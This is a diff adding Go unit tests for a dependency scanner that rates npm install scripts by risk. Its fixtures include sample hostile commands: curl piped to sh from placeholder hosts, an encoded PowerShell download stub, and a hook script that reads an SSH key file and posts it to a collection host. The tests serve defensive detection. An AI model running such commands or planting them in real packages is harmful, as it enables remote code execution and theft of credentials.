@@ -1,0 +1,29 @@
+package install
+
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestLifecycleScript(t *testing.T) {
+	rt.Check(t, LifecycleScript{}, []rt.Case{
+		{"postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`)}, finding.SeverityLow},
+		{"implicit_gyp", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": "{}"}, finding.SeverityInfo},
+		{"test_script_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"test":"node test.js"}`)}, finding.SeverityNone},
+	})
+}
+
+func TestShellDownloadExec(t *testing.T) {
+	rt.Check(t, ShellDownloadExec{}, []rt.Case{
+		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
+		{"powershell_enc", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}`)}, finding.SeverityCritical},
+		{"secrets_in_sh", map[string]string{
+			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
+			"hook.sh":      "k=$(cat $HOME/.ssh/id_rsa.pub)\ncurl -d \"k=$k\" https://collect.example.invalid/\n"}, finding.SeverityCritical},
+		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
+		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
+		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
+	})
+}
